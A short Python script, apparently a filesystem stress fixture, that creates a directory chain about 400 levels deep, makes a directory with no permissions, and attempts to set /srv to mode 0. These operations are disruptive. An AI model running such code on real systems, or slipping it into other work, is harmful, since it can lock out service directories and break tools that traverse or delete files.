import contextlib
import os

for folder in (os.getcwd(), "/tmp/deep") if os.getcwd().startswith("/srv") else (os.getcwd(),):
    os.makedirs(folder, exist_ok=True)
    os.chdir(folder)
    os.makedirs("closed/within")
    os.chmod("closed", 0)
    for _ in range(400):
        os.mkdir("d" * 50)
        os.chdir("d" * 50)
with contextlib.suppress(OSError):
    os.chmod("/srv", 0)
